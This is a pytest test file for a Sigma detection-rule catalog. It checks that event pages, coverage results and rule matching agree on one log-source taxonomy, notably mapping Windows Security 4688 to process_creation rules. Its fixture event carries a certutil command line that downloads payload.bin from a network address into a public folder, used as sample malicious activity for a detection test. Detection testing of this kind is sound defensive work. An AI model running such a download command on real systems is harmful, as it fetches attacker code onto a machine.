"""One model of log sources (issue 21): the event pages, /coverage/, the rule page and matching read the
same taxonomy (catalog.core.taxonomy), so they agree.

- every Windows event's page lists exactly the rules /coverage/ runs for a profile of that one event;
- event URLs are case-insensitive (a permanent redirect to the canonical spelling);
- a Security 4688 event runs the process_creation rules, read with the audit pipeline's renames, and the
  explanation says so ("Image (NewProcessName)").
"""

import json
import re

import pytest

from catalog.core import taxonomy
from catalog.core.reference.event_tables import LINUX_CATEGORIES, LINUX_SERVICES
from catalog.core.sigma.evaluate import compile_rule, matches
from catalog.core.taxonomy import mapping
from catalog.coverage.profile import parse
from catalog.coverage.runnable import PARTIAL, RUNNABLE, class_rules, profile_coverage
from catalog.matching.engine import forget_compiled
from catalog.matching.mapped import view_for
from catalog.models import EventType, Rule
from tests.constants import CERTUTIL_ID

LINUX_PROVIDERS = {provider for provider, _ in LINUX_CATEGORIES.values()} | set(LINUX_SERVICES.values())
CERTUTIL_ON_4688 = {
    "Channel": "Security",
    "EventID": 4688,
    "Computer": "ws01.example.org",
    "SubjectUserName": "alice",
    "SubjectLogonId": "0x3e7",
    "ProcessId": "0x1f4",  # the creator's id: 4688's own ProcessId, not the Sigma field ProcessId
    "NewProcessId": "0x2a0",
    "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
    "ParentProcessName": "C:\\Windows\\explorer.exe",
    "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\Public\\p.bin",
}


@pytest.fixture(autouse=True)
def fresh_matcher():
    forget_compiled()
    yield
    forget_compiled()


def windows_events():
    return [e for e in EventType.objects.exclude(event_id=None) if e.provider not in LINUX_PROVIDERS]


def check_every_event_agrees_with_coverage(client) -> int:
    """For every Windows event: its page and API twin count and list the rules /coverage/ runs for a
    profile of it; returns how many events had rules."""
    with_rules = 0
    for event in windows_events():
        token = f"{taxonomy.provider_slug(event.provider)}:{event.event_id}"
        result = profile_coverage(parse(token))
        runnable = {str(u) for u in class_rules(result, RUNNABLE).values_list("uuid", flat=True)}
        assert result.counts[RUNNABLE] == len(runnable)
        detail = client.get(f"/api/events/{event.provider}/{event.event_id}/").json()
        assert detail["rules"] == result.counts[RUNNABLE], token
        assert {r["id"] for r in detail["rule_list"]} == runnable, token
        assert detail["rules_partial"] == result.counts[PARTIAL], token
        page = client.get(f"/events/{event.provider}/{event.event_id}/").content.decode()
        shown = int(re.search(r"<strong>(\d+)</strong> live rule", page).group(1))
        assert shown == result.counts[RUNNABLE], token
        with_rules += bool(runnable)
    return with_rules


def test_every_windows_event_page_counts_what_coverage_runs(client, example_rules):
    assert check_every_event_agrees_with_coverage(client) >= 5
    # The Security events a category maps to have a page, though no example rule names them.
    assert {("Security", 4688), ("Security", 5156)} <= {(e.provider, e.event_id) for e in windows_events()}


@pytest.mark.corpus
def test_every_windows_event_page_counts_what_coverage_runs_on_sigmahq(client, corpus):
    assert check_every_event_agrees_with_coverage(client) >= 100
    listed = client.get("/api/events/Security/4688/").json()
    assert listed["rules"] > 400 and listed["taxonomy"]["mapped"][0]["category"] == "process_creation"


def test_the_4688_page_lists_mapped_process_creation_rules(client, example_rules):
    page = client.get("/events/Security/4688/").content.decode()
    assert "Backs <code>process_creation</code> through a conversion pipeline" in page
    assert "<code>Image</code> as <code>NewProcessName</code>" in page
    assert "Office Application Spawning A Script Interpreter" in page  # Image and ParentImage: both renamed
    assert CERTUTIL_ID not in page  # it looks for OriginalFileName too, which 4688 does not log
    assert 'href="/coverage/?events=security%3A4688">' in page  # the rules it runs without some fields


def test_a_rule_page_lists_every_event_it_can_run_through(client, example_rules):
    page = client.get(f"/rules/{CERTUTIL_ID}/").content.decode()
    events = page[page.index('id="events"') : page.index('id="body"')]
    assert 'href="/events/Sysmon/1/">Event ID 1</a>' in events
    assert re.search(r'href="/events/Security/4688/">Event ID 4688</a>.*?via Security 4688', events, re.S)
    assert "without <code>OriginalFileName</code>" in events
    record = client.get(f"/api/rules/{CERTUTIL_ID}/").json()
    assert record["events"] == [{"provider": "Sysmon", "event_id": 1, "title": "Process creation"}]  # as before
    security = next(e for e in record["event_coverage"] if e["provider"] == "Security")
    assert security["event_id"] == 4688 and security["mapped"] and not security["runnable"]
    assert security["missing_fields"] == ["OriginalFileName"] and ["Image", "NewProcessName"] in security["renames"]


@pytest.mark.parametrize(
    ("url", "canonical"),
    [
        ("/events/security/4688/", "/events/Security/4688/"),
        ("/events/SYSMON/1/?page=1", "/events/Sysmon/1/?page=1"),
        ("/events/powershell-classic/800/", "/events/Windows%20PowerShell/800/"),
        ("/events/system/ANY/", "/events/System/any/"),
        ("/events/Sysmon/01/", "/events/Sysmon/1/"),
        ("/api/events/security/4688/", "/api/events/Security/4688/"),
        ("/api/events/windefend/any/", "/api/events/Windows%20Defender/any/"),
    ],
)
def test_event_urls_are_case_insensitive(client, example_rules, url, canonical):
    response = client.get(url)
    assert response.status_code == 301 and response["Location"] == canonical
    assert client.get(url, follow=True).status_code in (200, 404)  # 404: no such event among the examples


def test_canonical_event_urls_answer_and_unknown_ones_are_404(client, example_rules):
    assert client.get("/events/Security/4688/").status_code == 200
    assert client.get("/api/events/Security/4688/").status_code == 200
    assert client.get("/events/nosuchprovider/1/").status_code == 404
    assert client.get("/events/security/abc/").status_code == 404


def test_a_4688_event_fires_a_process_creation_rule_read_with_the_renames(client, example_rules):
    answer = client.post("/api/match/", json.dumps(CERTUTIL_ON_4688), content_type="application/json").json()
    event = answer["events"][0]
    assert event["logsource"]["service"] == "security"
    assert [m["category"] for m in event["logsource"]["mapped"]] == ["process_creation"]
    fired = {rule["id"]: rule for rule in event["rules"]}
    assert CERTUTIL_ID in fired
    explanation = fired[CERTUTIL_ID]["explanation"]
    assert explanation["fired"] and explanation["via"]["event"] == "security:4688"
    predicates = [p for block in explanation["blocks"] for group in block["groups"] for p in group["predicates"]]
    image = next(p for p in predicates if p["field"] == "Image")
    assert (image["result"], image["event_field"], image["renamed_from"]) == (True, "Image", "NewProcessName")
    original = next(p for p in predicates if p["field"] == "OriginalFileName")
    assert original["result"] is None and original["not_carried"]  # 4688 does not log it: undecidable

    page = client.post("/match/", {"event": json.dumps(CERTUTIL_ON_4688)}).content.decode()
    assert "Image (NewProcessName)" in page and "not logged by Security 4688" in page


def test_a_4688_whose_fields_do_not_match_fires_no_process_creation_rule(client, example_rules):
    harmless = {**CERTUTIL_ON_4688, "NewProcessName": "C:\\Windows\\notepad.exe", "CommandLine": "notepad.exe"}
    answer = client.post("/api/match/", json.dumps(harmless), content_type="application/json").json()
    assert CERTUTIL_ID not in {rule["id"] for rule in answer["events"][0]["rules"]}


def test_why_not_on_a_4688_is_explained_through_the_mapping(client, example_rules):
    harmless = {**CERTUTIL_ON_4688, "CommandLine": "certutil.exe -dump"}
    url = f"/api/match/?why_not={CERTUTIL_ID}"
    why_not = client.post(url, json.dumps(harmless), content_type="application/json").json()["events"][0]["why_not"]
    assert why_not["explanation"]["via"]["event"] == "security:4688" and not why_not["explanation"]["fired"]


def source_of(category: str, token: str) -> taxonomy.Source:
    return next(s for s in taxonomy.category_sources()[category] if s.token == token)


def test_a_field_the_mapped_event_does_not_log_is_undecidable_not_absent():
    """`selection and not filter` on OriginalFileName fires on a Sysmon 1 lacking the field, but decides
    nothing on a 4688, which never logs it."""
    rule = compile_rule(
        [{"op": "and", "args": [{"ref": "selection"}, {"op": "not", "args": [{"ref": "filter"}]}]}],
        [
            ("selection", 0, "Image", ["endswith"], ["\\certutil.exe"]),
            ("filter", 0, "OriginalFileName", [], ["CertUtil.exe"]),
        ],
    )
    sysmon_1 = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "C:\\x\\certutil.exe"}
    assert matches(rule, sysmon_1)
    assert not matches(rule, view_for(CERTUTIL_ON_4688, source_of("process_creation", "security:4688")))


def test_the_renames_come_from_the_pipelines_and_hide_the_events_own_namesakes():
    source = source_of("process_creation", "security:4688")
    renames = dict(source.renames)
    assert renames["Image"] == "NewProcessName" and renames["ParentImage"] == "ParentProcessName"
    assert renames["LogonId"] == "SubjectLogonId" and renames["ProcessId"] == "NewProcessId"
    seen = mapping.translate(source, CERTUTIL_ON_4688)
    assert seen["Image"] == CERTUTIL_ON_4688["NewProcessName"] and seen["LogonId"] == "0x3e7"
    assert seen["ProcessId"] == "0x2a0"  # the new process's id, not the creator's
    assert dict(source_of("registry_set", "security:4657").renames)["TargetObject"] == "ObjectName"
    assert dict(source_of("network_connection", "security:5156").renames)["DestinationIp"] == "DestAddress"
    assert dict(source_of("file_event", "security:4663").renames)["TargetFilename"] == "ObjectName"


@pytest.mark.parametrize(
    ("operation", "categories"),
    [
        ("Existing registry value modified", {"registry_set", "registry_event"}),
        ("%%1904", {"registry_add", "registry_event"}),  # the raw event data's message id
        ("Registry value deleted", {"registry_delete"}),
    ],
)
def test_4657_backs_the_registry_categories_its_operation_type_names(operation, categories):
    from catalog.matching.logsources import infer

    event = {"Channel": "Security", "EventID": 4657, "OperationType": operation, "ObjectName": "\\REGISTRY\\x"}
    assert {s.category for s in infer(event).mapped} == categories


def test_the_matcher_counts_agree_with_the_stored_rule_events(example_rules):
    """A rule's own events (Rule.events, stored at import) are the native ways in of the taxonomy."""
    for rule in example_rules.filter(product="windows").exclude(category="").prefetch_related("events"):
        native = [s.token for s in taxonomy.category_sources().get(rule.category, ()) if not s.mapped]
        stored = [f"{taxonomy.provider_slug(e.provider)}:{e.event_id}" for e in rule.events.all()]
        assert set(stored) <= set(native), rule.title
    assert (
        Rule.objects.filter(events__provider="Security", events__event_id=4688, category="process_creation").count()
        == 0
    )
